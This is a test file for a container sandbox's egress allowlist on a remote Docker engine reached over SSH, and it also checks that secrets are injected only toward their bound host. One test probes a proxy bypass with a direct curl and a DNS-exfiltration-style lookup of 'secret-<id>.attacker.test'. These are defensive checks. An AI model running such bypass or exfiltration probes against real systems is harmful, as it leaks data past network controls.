import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir, userInfo } from "node:os";
import { join } from "node:path";
import { startLocalSshd, type LocalSshd } from "@monoclaw/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDockerBackend, type DockerBackend } from "../docker-backend.js";
import { egressNetworkName, egressProxyName } from "./egress-names.js";
import {
  ALLOWED_IP,
  CURL_IMAGE,
  EGRESS_ENGINE,
  NODE_IMAGE,
  WORLD_STATE,
  assertWorldReady,
  egressDocker,
  removeEgressSandbox,
  worldCa,
  requestHeader,
  runText,
  worldRecords,
  worldSaw,
} from "./egress-test-world.test-helpers.js";

/**
 * The egress policy with a remote engine: `ssh://` to OpenSSH's sshd on
 * 127.0.0.1, whose forced command dials the egress test engine (so the
 * sandbox and its proxy live on the engine's side, as on a build box). The
 * proxy must come up beside the sandbox there, not in MonoClaw's process.
 */
const nonce = () => `n${randomBytes(5).toString("hex")}`;
const REAL = `ghp_${randomBytes(18).toString("hex")}`;
const dir = mkdtempSync(join(tmpdir(), "monoclaw-egress-ssh-"));
const name = `egress-ssh-${process.pid}`;
let sshd: LocalSshd;
let backend: DockerBackend;
const run = (command: string) => runText(backend, command);

beforeAll(async () => {
  await assertWorldReady();
  await removeEgressSandbox(name);
  const key = join(dir, "id_ed25519");
  execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "monoclaw-test", "-f", key], { stdio: "pipe" });
  // The remote side's `docker system dial-stdio` reaches the egress test engine, not the machine's main one.
  const forced = `command="DOCKER_HOST=${EGRESS_ENGINE} exec docker system dial-stdio"`;
  sshd = await startLocalSshd(`${forced} ${readFileSync(`${key}.pub`, "utf8").trim()}\n`);
  const home = join(dir, "home");
  mkdirSync(join(home, ".ssh"), { recursive: true, mode: 0o700 });
  writeFileSync(join(home, ".ssh", "id_ed25519"), readFileSync(key), { mode: 0o600 });
  writeFileSync(join(home, ".ssh", "known_hosts"), `[127.0.0.1]:${sshd.port} ${sshd.hostKey}\n`);
  backend = createDockerBackend({
    host: `ssh://${userInfo().username}@127.0.0.1:${sshd.port}`,
    image: CURL_IMAGE,
    pull: "never",
    network: "allowlist",
    name,
    idle_timeout: 0,
    egress: { allow: ["allowed.test"], preset: "none", proxy_image: NODE_IMAGE, upstream_ca_file: `${WORLD_STATE}/ca-cert.pem` },
    secrets: { GITHUB_TOKEN: { from_env: "MONOCLAW_TEST_GITHUB_TOKEN", hosts: ["allowed.test"] } },
    hostEnv: { HOME: home, PATH: process.env.PATH ?? "/usr/bin:/bin", MONOCLAW_TEST_GITHUB_TOKEN: REAL },
  });
  await backend.writeFile("/tmp/world-ca.pem", worldCa());
}, 120_000);

afterAll(async () => {
  await backend?.dispose();
  await removeEgressSandbox(name);
  await sshd?.stop();
  rmSync(dir, { recursive: true, force: true });
});

describe("network: allowlist on an ssh:// engine (sshd on 127.0.0.1 dialling the egress test engine)", () => {
  it("runs the sandbox and its proxy on the engine's side", async () => {
    const sandbox = await egressDocker.getContainer(name).inspect();
    const proxy = await egressDocker.getContainer(egressProxyName(name)).inspect();
    expect(sandbox.State.Running).toBe(true);
    expect(proxy.State.Running).toBe(true);
    expect(Object.keys(sandbox.NetworkSettings.Networks)).toEqual([egressNetworkName(name)]);
  });

  it("reaches an allowed name, refuses another with the reason in the result, and nothing reaches the refused one", async () => {
    const id = nonce();
    const allowed = await run(`curl -sS http://allowed.test/${id}`);
    expect(JSON.parse(allowed.stdout)).toMatchObject({ served: "internet", url: `/${id}` });
    const refusedId = nonce();
    const refused = await run(`curl -sS -o /dev/null --cacert /tmp/world-ca.pem https://denied.test/${refusedId}`);
    expect(refused.exitCode).not.toBe(0);
    expect(refused.notices?.[0]).toContain("refused denied.test:443: not in terminal.docker.egress.allow");
    expect(worldSaw(refusedId)).toBe(false);
  });

  it("gets nowhere around the proxy: direct TCP to the internet's address and a DNS query for an arbitrary name", async () => {
    const id = nonce();
    const direct = await run(`curl -sS --noproxy '*' -m 5 http://${ALLOWED_IP}/${id}`);
    expect(direct.exitCode).not.toBe(0);
    await run(`timeout 3 getent hosts secret-${id}.attacker.test; true`);
    expect(worldSaw(id)).toBe(false);
    // Positive control: the same path through the proxy arrives.
    expect((await run(`curl -sS http://allowed.test/${id}`)).exitCode).toBe(0);
    expect(worldSaw(id)).toBe(true);
  });

  it("puts the real secret into the request to its bound host, while the sandbox holds the placeholder", async () => {
    const id = nonce();
    const reply = await run(`curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://allowed.test/${id}`);
    expect(reply.stderr).toBe("");
    const seen = worldRecords("http.log").find((entry) => String(entry.url).includes(id));
    expect(requestHeader(seen, "authorization")).toBe(`Bearer ${REAL}`);
    expect(reply.stdout).not.toContain(REAL);
  });
});
